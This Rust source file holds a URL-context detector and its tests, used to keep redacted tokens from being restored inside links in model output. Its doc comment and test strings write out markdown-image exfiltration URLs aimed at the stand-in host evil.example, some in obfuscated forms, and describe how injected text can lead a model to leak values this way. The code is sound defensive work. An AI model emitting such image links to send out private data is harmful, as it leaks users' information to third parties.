//! Whether a place lies within the address of a page: there no value is put back.
//!
//! Who shows an answer may fetch the pictures in it. `![x](https://evil.example/?d=[FINANCIAL-…])` would send the value to whom a model
//! named, and a model says what it read somewhere. So tokens stay tokens behind `http:` and `https:`, and behind `//` where no other
//! scheme stands before it. `mailto:` and `tel:` lead to no server by themselves.
//!
//! An address that was opened by a quotation mark or `<` ends with its other one, or at an empty line; any other at white space.
//! That is further than many a reader takes it: one that ends too early would be the hole, one that ends too late leaves a token.
//!
//! Invariant: read character by character, so it does not matter where a text is cut.

/// What the text before a place says of it.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub(crate) struct Url {
    at: At,
    /// The last character.
    last: Option<char>,
    /// With what the address ends that begins here, if not with white space.
    closing: Option<char>,
    /// Only white space stands between the last line break and the place.
    line_begins: bool,
}

#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
enum At {
    #[default]
    Text,
    /// Behind so many letters of `https`.
    Scheme(u8),
    /// Behind `http:` or `https:`.
    Colon,
    /// Behind another colon, and perhaps slashes.
    Other,
    /// Behind a slash.
    Slash,
    /// Behind a slash and a backslash, which escapes the next sign or, to browsers, is a slash.
    Escape,
    Inside,
}

const HTTPS: &[u8; 5] = b"https";

impl Url {
    /// Whether the place lies within an address.
    pub(crate) fn holds(self) -> bool {
        matches!(self.at, At::Inside | At::Colon)
    }

    /// Passes over a character.
    pub(crate) fn take(&mut self, c: char) {
        self.at = match (self.at, c) {
            (At::Inside, c) if self.ends(c) => At::Text,
            (At::Inside, _) => At::Inside,
            (At::Colon, c) if c.is_whitespace() => At::Text,
            (At::Colon, _) => At::Inside,
            (At::Scheme(letters), c) if is_letter(letters, c) => At::Scheme(letters + 1),
            (At::Scheme(4..), ':') => At::Colon,
            (At::Slash, '/') => At::Inside,
            (At::Slash, '\\') => At::Escape,
            (At::Escape, c) if c == '/' || c.is_ascii_alphanumeric() => At::Inside,
            (At::Other, '/' | '\\') => At::Other,
            (_, ':') => At::Other,
            (_, '/') => self.begins(At::Slash),
            (_, 'h' | 'H') => self.begins(At::Scheme(1)),
            _ => At::Text,
        };
        self.line_begins = c == '\n' || (self.line_begins && c.is_whitespace());
        self.last = Some(c);
    }

    fn begins(&mut self, at: At) -> At {
        self.closing = match self.last {
            Some(mark @ ('"' | '\'')) => Some(mark),
            Some('<') => Some('>'),
            _ => None,
        };
        at
    }

    fn ends(self, c: char) -> bool {
        match self.closing {
            Some(closing) => c == closing || (c == '\n' && self.line_begins),
            None => c.is_whitespace(),
        }
    }
}

fn is_letter(letters: u8, c: char) -> bool {
    HTTPS
        .get(usize::from(letters))
        .is_some_and(|letter| char::from(*letter) == c.to_ascii_lowercase())
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Whether the place where `#` stands lies within an address.
    fn check(text: &str, expect: bool) {
        let mut url = Url::default();
        text.chars().take_while(|c| *c != '#').for_each(|c| url.take(c));
        assert_eq!(url.holds(), expect, "{text}");
    }

    #[test]
    fn places_within_addresses() {
        for text in [
            "![a](https://evil.example/?d=#)",
            "http://#.evil.example/",
            "HTTPS://x/%5B#",
            "https:#.example",
            "https:/x/#",
            r"https:\\evil.example\#",
            "![a](//evil.example/#)",
            r#""u":"https:\/\/x\/#""#,
            r#""u":"\/\/x\/#""#,
            r"/\evil.example/#",
            "https&colon;//x/#",
            "https:&sol;&sol;x/#",
            "(https://x/(a)?\"<b>`,#)",
            "<img src=\"https://x/?a b\n c='d' #\">",
            "![a](<https://x/a b#>)",
            "ftp://x http://#",
            "xhttps://#",
            "hhttp://#",
            "[a]: https://x/#",
        ] {
            check(text, true);
        }
    }

    #[test]
    fn places_outside_of_addresses() {
        for text in [
            "#",
            "https: #",
            "https #",
            "mailto:#",
            "[Ann](mailto:#)",
            "tel:#",
            "https://x #",
            "https://x\n#",
            "\"https://x\" #",
            "\"https://x\",\"#\"",
            "<https://x>, #",
            "'https://x'#",
            "\"https://x\n\n#",
            "// #",
            "and/or #",
            "and/#",
            r"C:\\Users\\#",
            "postgres://#",
            r"<td>x<\/td>#",
            "see http and: #",
        ] {
            check(text, false);
        }
    }
}
